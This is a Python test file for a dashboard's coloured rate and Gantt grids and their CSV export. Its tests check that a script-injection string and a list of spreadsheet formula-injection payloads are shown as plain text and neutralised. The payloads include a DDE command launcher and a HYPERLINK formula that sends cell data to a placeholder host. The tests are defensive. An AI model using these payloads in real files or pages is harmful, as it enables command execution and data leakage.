"""Coloured data grids (rbdash.grids): the same cells, states and colours as the plotly figures."""

import numpy as np
import pandas as pd
import pytest
from plotly.colors import hex_to_rgb, sample_colorscale, unlabel_rgb

from rbdash import charts, grids, views, wording
from rbdash.schedule import DONE, LATE, MONTHS, OUTSIDE, PLANNED, cell_states
from test_charts import acts_frame, heatmap


def completion(rows):
    """rows: (office, column, planned, realized, has_data) -> views.completion_cells."""
    df = pd.DataFrame(rows, columns=["satker", "col", "planned", "realized", "has_data"])
    df["rate"] = (df["realized"] / df["planned"].where(df["planned"] > 0)).where(df["has_data"])
    return views.completion_cells(df, "satker", "col")


def shown(styler):
    """The texts the grid shows, as Streamlit sends them (display values of the Styler)."""
    out = styler.data.copy().astype(object)
    for row in styler._translate(False, False)["body"]:
        for cell in row:
            if cell.get("type") == "td":
                r, c = cell["id"].split("_")
                out.iat[int(r[3:]), int(c[3:])] = cell["display_value"]
    return out


def css(styler):
    """{(row, column): 'background-color: ...; color: ...'} from the Styler's computed styles."""
    styler._compute()
    return {k: "; ".join(f"{p}: {v}" for p, v in props) for k, props in styler.ctx.items()}


CELLS = completion([
    ("KPU Kota A", 1, 4, 3, True), ("KPU Kota A", 2, 0, 0, True), ("KPU Kota A", "total", 4, 3, True),
    ("KPU Kota <b>B</b>", 1, 2, 0, False), ("KPU Kota <b>B</b>", 2, 1, 0, False),
    ("KPU Kota <b>B</b>", "total", 3, 0, False),
    ("KPU Kota C", 1, 5, 5, True), ("KPU Kota C", 2, 1, 0, True), ("KPU Kota C", "total", 6, 5, True)])
ROWS = ["KPU Kota A", "KPU Kota <b>B</b>", "KPU Kota C"]


def test_rate_grid_numbers_texts_and_states():
    styler = grids.rate_grid(heatmap(CELLS, ROWS, [1, 2, "total"], [wording.area_title(1), wording.area_title(2), "Total"]))
    data = styler.data
    assert list(data.columns) == ["Satker", "1 Manajemen Perubahan", "2 Deregulasi", "Total", "Keterangan"]
    assert data["Satker"].tolist() == ROWS  # user text kept as it is: a grid cell is text, not markup
    # numbers, so a column sorts as numbers; empty where there is no rate
    assert data["1 Manajemen Perubahan"].tolist()[::2] == [75.0, 100.0]
    assert [data[c].dtype.kind for c in data.columns[1:4]] == ["f", "f", "f"]
    assert data.iloc[1, 1:4].isna().all() and np.isnan(data.iloc[0, 2])
    text = shown(styler)
    assert text.iloc[0, 1:].tolist() == ["75,0%", "–", "75,0%", ""]  # nothing due in area 2: "–", not 0%
    # not reported: empty cells (grey, see the colours test) and the row says so; never 0%
    assert text.iloc[1, 1:].tolist() == ["–", "–", "–", "belum dilaporkan"]
    assert text.iloc[2, 1:].tolist() == ["100,0%", "0,0%", "83,3%", ""]
    assert grids.PLACEHOLDER == "–"  # what st.dataframe shows in an empty cell (pages pass it as placeholder)


def test_rate_grid_without_an_office_lacking_data_has_no_note_column():
    styler = grids.rate_grid(heatmap(CELLS, ROWS[::2], [1, 2, "total"], ["1", "2", "Total"]))
    assert list(styler.data.columns) == ["Satker", "1", "2", "Total"]


def test_rate_grid_colours_match_the_heatmap_scale():
    styler = grids.rate_grid(heatmap(CELLS, ROWS, [1, 2, "total"], ["1", "2", "Total"]))
    cells = css(styler)
    assert cells[(0, 1)].startswith(f"background-color: {charts.rate_hex(0.75)}")
    assert f"background-color: {charts.NOT_SCHEDULED_COLOR}" in cells[(0, 2)]
    assert all(f"background-color: {charts.NO_DATA_COLOR}" in cells[(1, j)] for j in (1, 2, 3))
    assert cells[(2, 1)].startswith(f"background-color: {charts.rate_hex(1.0)}")
    assert cells[(2, 2)].startswith(f"background-color: {charts.rate_hex(0.0)}")
    assert (0, 0) not in cells or "background" not in cells[(0, 0)]  # the name column stays plain


def test_the_grids_colours_are_the_figures_colours():
    """charts.rate_hex (grids, workbooks, slides) interpolates RATE_SCALE as plotly draws the heatmaps,
    to within one step of 255 per channel (plotly drops the fraction, rate_hex rounds it)."""
    for rate in np.linspace(0, 1, 201):
        plotly_rgb = unlabel_rgb(sample_colorscale(charts.RATE_SCALE, [rate])[0])
        ours = hex_to_rgb(charts.rate_hex(rate))
        assert max(abs(a - b) for a, b in zip(plotly_rgb, ours)) <= 1, (rate, plotly_rgb, ours)


@pytest.mark.parametrize("colour, ink", [
    ("#D73027", "#FFFFFF"),  # the scale's red: white reads better
    ("#FEE08B", charts.INK), ("#F0F0F0", charts.INK), ("#BDBDBD", charts.INK), ("#1A9850", charts.INK),
    ("#111827", "#FFFFFF")])
def test_text_colour_is_the_more_legible_of_ink_and_white(colour, ink):
    assert grids.ink_on(colour) == ink


def test_grid_and_figure_read_the_cells_the_same_way():
    """One reading (views.heatmap): the figure's rates and the grid's numbers agree cell by cell."""
    hm = heatmap(CELLS, ROWS, [1, 2, "total"], ["1", "2", "Total"])
    fig = charts.rate_heatmap(hm)
    styler = grids.rate_grid(hm)
    z = np.array(fig.data[1].z, dtype=float)
    numbers = styler.data.iloc[:, 1:4]
    np.testing.assert_array_equal(np.isnan(z), numbers.isna().to_numpy())
    np.testing.assert_allclose(z[~np.isnan(z)], numbers.to_numpy(dtype=float)[~np.isnan(z)])
    # the row the figure writes "belum dilaporkan" across is the row the grid's note names
    assert fig.data[0].text[1][1] == "belum dilaporkan" and styler.data["Keterangan"].tolist()[1] == "belum dilaporkan"


def test_grid_height_fits_small_grids_and_caps_large_ones():
    assert grids.grid_height(3) == 4 * grids.ROW_PX + 3
    assert grids.grid_height(550) == grids.MAX_HEIGHT_PX


def test_duplicate_column_titles_are_refused():
    with pytest.raises(ValueError, match="unique"):
        grids.rate_grid(heatmap(CELLS, ROWS, [1, 2], ["Satu", "Satu"]))


def test_rate_grid_styles_every_cell_of_550_offices():
    """550 offices × 9 columns: every cell styled once (the styles are what the browser receives)."""
    rows = [f"KPU Kabupaten {i}" for i in range(550)]
    cells = completion([(r, c, 4, i % 5, i % 7 != 0) for i, r in enumerate(rows) for c in range(1, 10)])
    styler = grids.rate_grid(heatmap(cells, rows, list(range(1, 10))))
    assert styler.data.shape == (550, 1 + 9 + 1) and len(css(styler)) == 550 * 9  # name, 9 rates, note


GANTT = acts_frame([
    (1, "Kegiatan A", "Sub A", "<script>alert(1)</script>", [1, 2, 3], [1]),
    (1, "Kegiatan A", "Sub A", "Indikator 2", [6], [7]),
    (1, "Kegiatan B", None, "Indikator 3", [12], []),
])


def test_gantt_grid_rows_marks_colours_and_source():
    styler = grids.gantt_grid(views.gantt_of(GANTT, as_of=3))
    data = styler.data
    assert list(data.columns) == [grids.LABEL, *MONTHS, grids.SOURCE]
    labels = data[grids.LABEL].tolist()
    # kegiatan, its sub kegiatan indented, the indikator under it indented twice; user text kept as text
    assert labels == ["Kegiatan A", grids.INDENT + "Sub A", grids.INDENT * 2 + "<script>alert(1)</script>",
                      grids.INDENT * 2 + "Indikator 2", "Kegiatan B", grids.INDENT * 2 + "Indikator 3"]
    months = data[list(MONTHS)].to_numpy()
    assert months[2, :4].tolist() == ["✓", "✗", "✗", ""]  # done in Jan; Feb and Mar due and not done: late
    assert months[3, 5:7].tolist() == ["○", "✓"]  # planned in Jun (not due), realised in Jul outside the plan
    assert months[5, 11] == "○" and (months[[0, 1, 4]] == "").all()
    assert data[grids.SOURCE].tolist() == ["", "", "baris 7 · Renaksi", "baris 8 · Renaksi", "", "baris 9 · Renaksi"]
    cells = css(styler)
    colour = {state: c for state, (c, _) in charts.GANTT_STATES.items()}
    assert cells[(2, 1)].startswith(f"background-color: {colour[DONE]}")
    assert cells[(2, 2)].startswith(f"background-color: {colour[LATE]}") and cells[(2, 2)].endswith("#FFFFFF")
    assert cells[(3, 6)].startswith(f"background-color: {colour[PLANNED]}")
    assert cells[(3, 7)].startswith(f"background-color: {colour[OUTSIDE]}")
    assert cells[(0, 0)] == f"background-color: {grids.HEADING_COLOR}" and (2, 0) not in cells


def test_gantt_grid_marks_are_the_schedules_states():
    """The grid's marks are schedule.cell_states, as every count of the office (no second reading)."""
    styler = grids.gantt_grid(views.gantt_of(GANTT, as_of=3, reported=0))
    acts = styler.data[styler.data[grids.SOURCE] != ""]
    states = cell_states(GANTT["planned_mask"], GANTT["realized_mask"], 3, reported=0)
    expected = np.vectorize(lambda s: grids.GANTT_MARKS.get(s, ""))(states)
    assert (acts[list(MONTHS)].to_numpy() == expected).all()
    assert "✗" not in expected and "?" in expected  # nothing reported: nothing late, the due months grey "?"


def test_gantt_grid_of_no_activities_is_empty():
    styler = grids.gantt_grid(views.gantt_of(GANTT.iloc[:0], as_of=3))
    assert styler.data.empty and list(styler.data.columns) == [grids.LABEL, *MONTHS, grids.SOURCE]


# ------------------------------------------------------------------ the grid's own CSV download (issue 18.3)

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_downloadable_neutralises_the_values_and_shows_the_text_as_written():
    """What the toolbar's "Download as CSV" writes (the values) carries no formula; the cells show the
    text as written, and numbers as the grid writes a number without a format."""
    df = pd.DataFrame({"Teks": [*FORMULAS, "- sudah", "aman", None], "Angka": [1.0, 2.5, 0.123456, *[3.0] * 7],
                       "Bulat": range(10)})
    out = grids.downloadable(df)
    assert out.data["Teks"].tolist()[:9] == ["'" + t for t in FORMULAS] + ["'- sudah", "aman"]
    assert pd.isna(out.data["Teks"].iloc[9])
    assert out.data[["Angka", "Bulat"]].equals(df[["Angka", "Bulat"]])
    display = shown(out)
    assert display["Teks"].tolist()[:9] == [*FORMULAS, "- sudah", "aman"]
    assert display["Angka"].tolist()[:3] == ["1", "2.5", "0.1235"] and display["Bulat"].tolist()[:2] == ["0", "1"]
    assert df["Teks"].iloc[0] == FORMULAS[0]  # the caller's frame is left alone


def test_downloadable_leaves_safe_frames_and_other_columns_alone():
    df = pd.DataFrame({"Satker": ["KPU Kota A"], "Catatan": ["=1+1"]})
    safe = df[["Satker"]]
    assert grids.downloadable(safe) is safe
    only = grids.downloadable(df, columns=("Satker",))
    assert only is df   # an editor's typed column stays what the user typed
    assert grids.downloadable(df, columns=("Catatan",)).data["Catatan"].tolist() == ["'=1+1"]


def test_downloadable_refuses_a_styler_not_built_neutralised():
    with pytest.raises(ValueError):
        grids.downloadable(pd.DataFrame({"x": ["=1+1"]}).style)


def test_text_that_reads_the_same_once_neutralised_shows_what_it_holds():
    out = grids.downloadable(pd.DataFrame({"x": ["=x", "'=x", "=y"]}))
    assert out.data["x"].tolist() == ["'=x", "'=x", "'=y"]
    assert shown(out)["x"].tolist() == ["'=x", "'=x", "=y"]


def test_grids_are_built_neutralised_and_show_the_text_as_written():
    acts = acts_frame([(1, FORMULAS[0], None, "- indikator", [1, 2], [1])])
    gantt = grids.gantt_grid(views.gantt_of(acts, 3))
    assert grids.downloadable(gantt) is gantt
    labels = gantt.data[grids.LABEL].tolist()
    assert "'" + FORMULAS[0] in labels and not any(str(t).startswith(("=", "+", "-", "@")) for t in labels)
    assert FORMULAS[0] in shown(gantt)[grids.LABEL].tolist()
    cells = completion([(FORMULAS[1], 1, 2, 1, True), (FORMULAS[1], "total", 2, 1, True)])
    rates = grids.rate_grid(heatmap(cells, [FORMULAS[1]], [1, "total"], ["Area 1", "Total"]))
    assert rates.data["Satker"].tolist() == ["'" + FORMULAS[1]]
    assert shown(rates)["Satker"].tolist() == [FORMULAS[1]] and shown(rates)["Total"].tolist() == ["50,0%"]
